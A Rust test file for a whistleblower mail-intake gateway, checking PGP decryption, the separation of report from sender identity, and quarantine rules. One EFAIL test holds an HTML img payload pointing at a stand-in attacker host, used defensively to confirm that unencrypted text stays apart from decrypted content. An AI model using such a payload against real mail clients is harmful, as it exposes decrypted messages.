//! The per-message decision without a server: real keys, real crypto, hand-made messages.

use std::io::Write;

use sequoia_openpgp::policy::StandardPolicy;
use sequoia_openpgp::serialize::stream::{Armorer, Encryptor, LiteralWriter, Message};
use sequoia_openpgp::Cert;
use serde_json::Value;

use super::process::{decide, Decision};
use crate::config::Limits;
use crate::openpgp::{generate_intake_key, IntakeKeyring, KeyAlgorithm};
use crate::readers::Readers;
use crate::vault::{self, BlobKind, ShredKey};

struct Fixture {
    intake: Cert,
    handler: Cert,
    custodian: Cert,
    keyring: IntakeKeyring,
    readers: Readers,
}

fn fixture() -> Fixture {
    let intake = generate_intake_key("Intake <i@example.org>", KeyAlgorithm::Cv25519).unwrap();
    let handler = generate_intake_key("Handler <h@example.org>", KeyAlgorithm::Cv25519).unwrap();
    let custodian =
        generate_intake_key("Custodian <c@example.org>", KeyAlgorithm::Cv25519).unwrap();
    Fixture {
        keyring: IntakeKeyring::new(vec![intake.clone()]),
        readers: Readers {
            handlers: vec![handler.clone(), custodian.clone()],
            custodians: vec![custodian.clone()],
            labels: Vec::new(),
            members: Vec::new(),
            unusable: Vec::new(),
            unconsented: Vec::new(),
            consent_in_force: false,
        },
        intake,
        handler,
        custodian,
    }
}

fn encrypt_armored(to: &Cert, plaintext: &[u8]) -> String {
    let p = StandardPolicy::new();
    let recipients = to
        .keys()
        .with_policy(&p, None)
        .supported()
        .alive()
        .revoked(false)
        .for_transport_encryption();
    let mut sink = Vec::new();
    {
        let message = Message::new(&mut sink);
        let message = Armorer::new(message).build().unwrap();
        let message = Encryptor::for_recipients(message, recipients)
            .build()
            .unwrap();
        let mut w = LiteralWriter::new(message).build().unwrap();
        w.write_all(plaintext).unwrap();
        w.finalize().unwrap();
    }
    String::from_utf8(sink).unwrap()
}

fn pgp_mime(armored: &str, extra_part: Option<&str>) -> Vec<u8> {
    let mut m = String::from(
        "From: Jan Kowalski <jan.kowalski@example.net>\r\nTo: sygnalista@example.org\r\n\
         Subject: ...\r\nMessage-ID: <id-1@example.net>\r\nMIME-Version: 1.0\r\n",
    );
    let encrypted = format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n\
         --enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
         --enc\r\nContent-Type: application/octet-stream\r\n\r\n{armored}\r\n--enc--\r\n"
    );
    match extra_part {
        None => m.push_str(&encrypted),
        Some(text) => m.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n--mix\r\nContent-Type: text/plain\r\n\r\n{text}\r\n\
             --mix\r\n{encrypted}\r\n--mix--\r\n"
        )),
    }
    m.into_bytes()
}

const INNER: &str = "Content-Type: text/plain; charset=utf-8\r\nSubject: Korupcja w dziale zamowien\r\n\r\nTresc zgloszenia: faktury sa falszowane.\r\n";

fn file(f: &Fixture, raw: &[u8]) -> (super::SealedCase, ShredKey) {
    let shred = ShredKey::generate();
    let d = decide(
        raw,
        &f.keyring,
        &f.readers,
        &Limits::default(),
        &shred,
        "2026-11-23".parse().unwrap(),
        None,
    )
    .unwrap();
    match d {
        Decision::File(c) => (c, shred),
        Decision::Quarantine(r) => panic!("expected a case, got quarantine {r:?}"),
    }
}

fn rejection(f: &Fixture, raw: &[u8]) -> super::Rejection {
    let shred = ShredKey::generate();
    match decide(
        raw,
        &f.keyring,
        &f.readers,
        &Limits::default(),
        &shred,
        "2026-11-23".parse().unwrap(),
        None,
    )
    .unwrap()
    {
        Decision::Quarantine(r) => r,
        Decision::File(_) => panic!("expected quarantine"),
    }
}

fn open_json(blob: &vault::StoredBlob, shred: &ShredKey, kind: BlobKind, key: &Cert) -> Value {
    let bytes = vault::open(blob, shred, kind, key, None, 1 << 24).unwrap();
    serde_json::from_slice(&bytes).unwrap()
}

#[test]
fn pgp_mime_report_is_split_and_sealed_to_the_right_readers() {
    let f = fixture();
    let raw = pgp_mime(&encrypt_armored(&f.intake, INNER.as_bytes()), None);
    let (case, shred) = file(&f, &raw);
    assert!(case.encrypted);

    let report = open_json(&case.report, &shred, BlobKind::Report, &f.handler);
    assert_eq!(report["subject"], "Korupcja w dziale zamowien");
    assert!(report["body"]
        .as_str()
        .unwrap()
        .contains("faktury sa falszowane"));
    let report_text = report.to_string();
    assert!(
        !report_text.contains("kowalski"),
        "identity leaked into report"
    );
    assert!(!report_text.contains("id-1@example.net"));

    let identity = open_json(&case.identity, &shred, BlobKind::Identity, &f.custodian);
    assert!(identity.to_string().contains("jan.kowalski@example.net"));
    // Handlers cannot open the identity record.
    assert!(vault::open(
        &case.identity,
        &shred,
        BlobKind::Identity,
        &f.handler,
        None,
        1 << 20
    )
    .is_err());
    // The intake key (the gateway's only secret) opens neither.
    assert!(vault::open(
        &case.report,
        &shred,
        BlobKind::Report,
        &f.intake,
        None,
        1 << 20
    )
    .is_err());
}

#[test]
fn plain_mail_is_filed_as_unencrypted() {
    let f = fixture();
    let raw = b"From: a@example.com\r\nSubject: zwykly\r\nDate: Mon, 23 Nov 2026 10:00:00 +0100\r\n\r\ntresc\r\n";
    let (case, shred) = file(&f, raw);
    assert!(!case.encrypted);
    let report = open_json(&case.report, &shred, BlobKind::Report, &f.handler);
    assert_eq!(report["subject"], "zwykly");
    assert_eq!(report["encrypted"], false);
}

#[test]
fn mail_to_a_retired_intake_key_is_quarantined_naming_that_key() {
    let mut f = fixture();
    let retired = generate_intake_key("R <r@example.org>", KeyAlgorithm::Cv25519).unwrap();
    f.keyring = IntakeKeyring::new(vec![f.intake.clone()])
        .with_retired(&[retired.clone().strip_secret_key_material()]);
    let raw = pgp_mime(&encrypt_armored(&retired, INNER.as_bytes()), None);
    let r = rejection(&f, &raw);
    assert_eq!(r.code, "openpgp-retired-key");
    assert!(
        r.detail.contains(&retired.fingerprint().to_hex()),
        "{}",
        r.detail
    );
}

#[test]
fn mail_to_an_unknown_key_is_quarantined_without_naming_its_recipients() {
    let f = fixture();
    let stranger = generate_intake_key("S <s@example.org>", KeyAlgorithm::Cv25519).unwrap();
    let raw = pgp_mime(&encrypt_armored(&stranger, INNER.as_bytes()), None);
    let r = rejection(&f, &raw);
    assert_eq!(r.code, "openpgp-no-matching-key");
    assert!(!r.detail.contains(&stranger.keyid().to_hex()));
}

#[test]
fn invariant_3_tampered_ciphertext_is_quarantined() {
    let f = fixture();
    let armored = encrypt_armored(&f.intake, INNER.repeat(50).as_bytes());
    // Flip one bit deep inside the encrypted data and re-armor, so the armor stays valid.
    let mut bytes = Vec::new();
    {
        use std::io::Read;
        let mut r = sequoia_openpgp::armor::Reader::from_bytes(
            armored.as_bytes(),
            sequoia_openpgp::armor::ReaderMode::Tolerant(None),
        );
        r.read_to_end(&mut bytes).unwrap();
    }
    let at = bytes.len() - 40;
    bytes[at] ^= 0x01;
    let mut rearmored = Vec::new();
    {
        let mut w = sequoia_openpgp::armor::Writer::new(
            &mut rearmored,
            sequoia_openpgp::armor::Kind::Message,
        )
        .unwrap();
        w.write_all(&bytes).unwrap();
        w.finalize().unwrap();
    }
    let raw = pgp_mime(std::str::from_utf8(&rearmored).unwrap(), None);
    let r = rejection(&f, &raw);
    assert!(
        r.code == "openpgp-integrity" || r.code == "openpgp-malformed",
        "{r:?}"
    );
}

#[test]
fn efail_unencrypted_text_beside_ciphertext_is_kept_apart() {
    let f = fixture();
    let raw = pgp_mime(
        &encrypt_armored(&f.intake, INNER.as_bytes()),
        Some("<img src=\"http://attacker.example/?"),
    );
    let (case, shred) = file(&f, &raw);
    let report = open_json(&case.report, &shred, BlobKind::Report, &f.handler);
    let body = report["body"].as_str().unwrap();
    assert!(
        !body.contains("attacker.example"),
        "unencrypted text joined to the body"
    );
    assert!(body.contains("faktury sa falszowane"));
    let parts = report["unencrypted_parts"].as_array().unwrap();
    assert_eq!(parts.len(), 1);
    assert!(parts[0]["text"]
        .as_str()
        .unwrap()
        .contains("attacker.example"));
}

#[test]
fn inline_pgp_body_is_decrypted() {
    let f = fixture();
    let armored = encrypt_armored(&f.intake, "Zgloszenie inline: lapowki".as_bytes());
    let raw = format!(
        "From: x@example.net\r\nSubject: inline\r\nContent-Type: text/plain\r\n\r\n{armored}\r\n"
    );
    let (case, shred) = file(&f, raw.as_bytes());
    assert!(case.encrypted);
    let report = open_json(&case.report, &shred, BlobKind::Report, &f.handler);
    assert!(report["body"].as_str().unwrap().contains("lapowki"));
}

#[test]
fn garbage_is_quarantined_not_filed() {
    let f = fixture();
    for raw in [
        &b""[..],
        b"garbage\x00\xff",
        b"\r\n\r\n",
        b"no header here at all",
        b"\x00junk",
        b"\x00Subject without a colon\r\n\r\nbody",
    ] {
        let r = rejection(&f, raw);
        assert_eq!(r.code, "mime-unparseable", "{raw:?}");
    }
}

#[test]
fn sealing_without_readers_is_an_error_not_a_case() {
    let mut f = fixture();
    f.readers.custodians.clear();
    let shred = ShredKey::generate();
    let raw = b"From: a@example.com\r\nSubject: s\r\n\r\nb\r\n";
    assert!(decide(
        raw,
        &f.keyring,
        &f.readers,
        &Limits::default(),
        &shred,
        "2026-11-23".parse().unwrap(),
        None
    )
    .is_err());
}

fn decide_with(f: &Fixture, raw: &[u8], limits: &Limits) -> Decision {
    decide(
        raw,
        &f.keyring,
        &f.readers,
        limits,
        &ShredKey::generate(),
        "2026-11-23".parse().unwrap(),
        None,
    )
    .unwrap()
}

#[test]
fn inline_blocks_share_one_plaintext_budget_per_message() {
    let f = fixture();
    // Three distinct blocks of 600 bytes each: every one alone fits 1000 bytes, together not.
    let blocks: Vec<String> = (0..3)
        .map(|i| encrypt_armored(&f.intake, format!("{i}{}", "x".repeat(599)).as_bytes()))
        .collect();
    let raw = format!(
        "From: x@example.net\r\nSubject: inline\r\nContent-Type: text/plain\r\n\r\n{}\r\n",
        blocks.join("\r\n\r\n")
    );
    let limits = Limits {
        max_plaintext_bytes: 1000,
        ..Limits::default()
    };
    let Decision::Quarantine(r) = decide_with(&f, raw.as_bytes(), &limits) else {
        panic!("a message over its plaintext budget was filed")
    };
    assert_eq!(r.code, "openpgp-too-large", "{r:?}");
    assert!(r.detail.contains("together"), "{r:?}");
    // Within the budget the same message files.
    assert!(matches!(
        decide_with(&f, raw.as_bytes(), &Limits::default()),
        Decision::File(_)
    ));
}

#[test]
fn a_text_part_of_countless_inline_blocks_is_refused_before_any_decryption() {
    let f = fixture();
    // 5,000 distinct minimal blocks (none decryptable): refused by count, in linear time.
    let mut body = String::new();
    for i in 0..5000 {
        body.push_str(&format!(
            "-----BEGIN PGP MESSAGE-----\r\n\r\nwcBM{i:06}\r\n-----END PGP MESSAGE-----\r\n"
        ));
    }
    let raw =
        format!("From: x@example.net\r\nSubject: many\r\nContent-Type: text/plain\r\n\r\n{body}");
    let Decision::Quarantine(r) = decide_with(&f, raw.as_bytes(), &Limits::default()) else {
        panic!("filed")
    };
    assert_eq!(r.code, "openpgp-too-many-blocks", "{r:?}");
}

/// What the gateway sends a worker (unlocked keys, readers, limits) arrives whole: the worker
/// opens and seals exactly as the gateway would, and a garbled request is refused, not guessed.
#[test]
fn a_worker_over_a_pipe_decides_as_the_gateway_would() {
    use super::worker::child::serve;
    use super::worker::protocol::{read_frame, write_frame, Answer, Reply, Request, Setup};

    let f = fixture();
    let setup = Setup {
        keyring: f.keyring.to_parts().unwrap(),
        handlers: f
            .readers
            .handlers
            .iter()
            .map(|c| crate::openpgp::cert_bytes(c).unwrap())
            .collect(),
        custodians: vec![crate::openpgp::cert_bytes(&f.custodian).unwrap()],
        limits: Limits::default(),
        reply_pattern: None,
    };
    let shred = ShredKey::generate();
    let raw = pgp_mime(&encrypt_armored(&f.intake, INNER.as_bytes()), None);
    let request = Request {
        shred_key: shred.expose(),
        received_at: "2026-11-23".parse().unwrap(),
        raw: &raw,
    };
    let mut input = Vec::new();
    write_frame(&mut input, &setup.encode()).unwrap();
    write_frame(&mut input, &request.encode()).unwrap();
    // One worker answers messages one after the other until the gateway closes the pipe.
    write_frame(&mut input, &request.encode()).unwrap();
    let mut output = Vec::new();
    let mut confined = false;
    serve(&mut input.as_slice(), &mut output, |_: &Limits| {
        confined = true;
        Ok(())
    })
    .unwrap();
    assert!(confined, "the worker confines itself before reading mail");
    let mut out = output.as_slice();
    let ready = read_frame(&mut out, u64::MAX).unwrap();
    assert!(
        ready.is_empty(),
        "the worker says it is ready before its message"
    );
    let reply = Reply::decode(&read_frame(&mut out, u64::MAX).unwrap()).unwrap();
    let Answer::File(case) = reply.answer else {
        panic!("expected a case")
    };
    assert!(case.encrypted);
    let report = open_json(&case.report, &shred, BlobKind::Report, &f.handler);
    assert_eq!(report["subject"], "Korupcja w dziale zamowien");
    let second = Reply::decode(&read_frame(&mut out, u64::MAX).unwrap()).unwrap();
    assert!(
        matches!(second.answer, Answer::File(_)),
        "the second message is answered too"
    );
    assert!(out.is_empty(), "nothing after the last answer");

    // A request cut short: no answer at all (the gateway sees a worker that died).
    let mut input = Vec::new();
    write_frame(&mut input, &setup.encode()).unwrap();
    let payload = request.encode();
    write_frame(&mut input, &payload[..payload.len() / 2]).unwrap();
    let mut output = Vec::new();
    assert!(serve(&mut input.as_slice(), &mut output, |_: &Limits| Ok(())).is_err());
    let mut out = output.as_slice();
    assert!(read_frame(&mut out, u64::MAX).unwrap().is_empty());
    assert!(out.is_empty(), "no answer after the ready frame");
}
